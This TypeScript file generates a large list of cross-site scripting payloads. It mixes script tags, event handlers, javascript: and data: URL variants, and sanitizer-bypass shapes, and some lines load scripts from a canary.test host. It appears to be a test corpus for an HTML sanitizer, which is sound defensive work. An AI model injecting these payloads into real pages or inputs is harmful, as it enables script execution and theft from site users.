const ACTS = ['alert(1)', "fetch('https://canary.test')", 'window.__owned=1'];
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'input',
  'iframe',
  'object',
  'math',
  'a',
  'p',
];
const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationend',
  'onpointerdown',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  'javascript&colon;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'filesystem:',
  '//canary.test/',
];
const HOLDERS = [
  'a href',
  'img src',
  'form action',
  'button formaction',
  'iframe src',
  'embed src',
  'object data',
  'base href',
  'link href',
  'use xlink:href',
  'area href',
  'video poster',
];
const SHAPES = [
  (act: string) => `<script>${act}</script>`,
  (act: string) => `<SCRIPT SRC=//canary.test/x>${act}</SCRIPT>`,
  (act: string) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act: string) => `<svg><script>${act}</script></svg>`,
  (act: string) => `<svg><foreignObject><script>${act}</script></foreignObject></svg>`,
  (act: string) => `<svg><animate onbegin=${act} attributeName=x></svg>`,
  (act: string) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${act}>">`,
  (act: string) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act: string) => `<template><script>${act}</script></template>`,
  (act: string) =>
    `<style>@import 'https://canary.test';</style><p style="background:url(javascript:${act})">x</p>`,
  (act: string) => `<!--><img src=x onerror=${act}>-->`,
  (act: string) => `<![CDATA[<img src=x onerror=${act}>]]>`,
  (act: string) => `<textarea></textarea><img src=x onerror=${act}></textarea>`,
  (act: string) => `<xmp></xmp><img src=x onerror=${act}></xmp>`,
  (act: string) => `<p id="config" name="attributes">x</p><form id=x><input name=parentNode></form>${act}`,
  (act: string) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act: string) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act: string) => `<img src="x" alt="\`><script>${act}</script>">`,
  (act: string) => `\u202e<script>${act}</script>\u0000<scr\u0000ipt>${act}</scr\u0000ipt>`,
  (act: string) => `{{constructor.constructor('${act}')()}}`,
];

/** Some five hundred ways to bring a script into a page. */
export const HOSTILE_HTML: string[] = [
  ...ACTS.flatMap((act) => SHAPES.map((shape) => shape(act))),
  ...TAGS.flatMap((tag) =>
    EVENTS.flatMap((event) => [
      `<${tag} src=x ${event}=alert(1)>x</${tag}>`,
      `<${tag}/${event}="window.__owned=1"/x=">" ${event.toUpperCase()}='alert(1)'>`,
    ]),
  ),
  ...HOLDERS.flatMap((holder) =>
    SCHEMES.map((scheme) => `<${holder}="${scheme}alert(1)">x</${holder.split(' ')[0] ?? ''}>`),
  ),
];
